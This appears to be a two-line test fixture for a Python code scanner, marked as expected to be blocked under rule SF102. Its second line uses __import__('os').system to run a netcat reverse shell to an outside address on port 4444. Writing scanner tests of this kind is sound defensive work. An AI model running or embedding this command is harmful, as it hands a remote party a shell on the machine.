# expect: blocked SF102 __import__("os").system
__import__("os").system("nc -e /bin/sh 198.51.100.3 4444")
